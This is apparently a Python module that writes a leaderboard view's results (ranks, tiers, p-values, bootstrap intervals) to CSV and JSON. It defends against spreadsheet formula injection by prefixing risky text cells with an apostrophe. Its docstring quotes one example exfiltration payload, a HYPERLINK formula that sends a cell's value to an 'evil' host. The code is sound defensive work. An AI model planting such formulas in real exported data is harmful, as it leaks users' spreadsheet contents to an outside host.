"""A view's downloadable records (CSV and JSON): exact fractions, tiers and tests.

For the tiered column every tested row carries what the README promises: the raw and the
Holm-adjusted p-value of its test against the leader, the mean difference from the
leader over the view's queries and that difference's 95% bootstrap interval.

CSV is opened by spreadsheets, which run a cell starting with ``=``, ``+``, ``-`` or ``@``
(and, in some, a tab or carriage return) as a formula: a model named
``=HYPERLINK("http://evil/?"&A1)`` would become a live link. Text cells starting so get a
leading apostrophe (OWASP's advice); numeric cells are written as numbers and never
touched, so a negative p-MRR stays a number.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Mapping, Sequence

from .rows import Row
from .tables import ViewTable

STATISTIC_NOTE = (
    "Each value is the mean over the view's queries, each query once (several collections "
    "or datasets: their queries pooled; PI-Indic languages: each pair's mean over the "
    "languages, then the mean over pairs), the quantity the significance test compares. "
    "Tests against the tiered column's leader: p_value raw, p_adjusted Holm within the "
    "view; effect_vs_leader = mean(system - leader) with its 95% bootstrap interval "
    "[ci_low, ci_high]. In JSON, 'basis' says how a multi-task value was obtained: "
    "'queries' (the per-query mean), 'weighted' (a reported row's task figures weighted by "
    "their number of queries), 'unweighted' (their plain mean: query counts unknown), "
    "'published' (the row's own published average).")
TEST_FIELDS = ("tier", "p_value", "p_adjusted", "effect_vs_leader", "ci_low", "ci_high")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def view_records(table: ViewTable, source_of: Callable[[Row], str]
                 ) -> tuple[list[str], list[dict[str, object]]]:
    """Header and rows of a view's download; ``source_of`` says where a row comes from."""
    cols = table.view.columns
    header = ["rank", "system_id", "model", "provenance", "model_type", "parameters",
              "instruction_trained", "source"] + [c.id for c in cols]
    tiered = sorted(table.tiers)
    for i in tiered:
        header += [f"{cols[i].id} {f}" for f in TEST_FIELDS]
    ranks = table.rank_of()
    records = []
    for row in table.rows:
        model = row.system.model
        rec: dict[str, object] = {
            "rank": ranks[row.key], "system_id": row.system.system_id, "model": model.name,
            "provenance": row.system.provenance, "model_type": model.type,
            "parameters": model.parameters,
            "instruction_trained": model.instruction_trained, "source": source_of(row),
        }
        for i, col in enumerate(cols):
            rec[col.id] = table.values[row.key][i]
        bases = table.bases.get(row.key)
        if bases and len(cols) and any(len(c.tasks) > 1 for c in cols):
            # How each multi-task value was obtained (statistic.Basis); JSON only.
            rec["basis"] = {c.id: b for c, b in zip(cols, bases) if b and len(c.tasks) > 1}
        for i in tiered:
            info = table.tiers[i].get(row.key)
            fields = (info.tier, info.p_value, info.p_adjusted, info.effect, info.ci_low,
                      info.ci_high) if info else (None,) * len(TEST_FIELDS)
            for name, value in zip(TEST_FIELDS, fields):
                rec[f"{cols[i].id} {name}"] = value
        records.append(rec)
    return header, records


def csv_cell(value: object) -> str:
    """One CSV cell: numbers exact (shortest round-trip), text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, int):
        return str(value)
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(header: Sequence[str], records: Sequence[Mapping[str, object]]) -> str:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow([csv_cell(h) for h in header])
    for rec in records:
        writer.writerow([csv_cell(rec[h]) for h in header])
    return buf.getvalue()
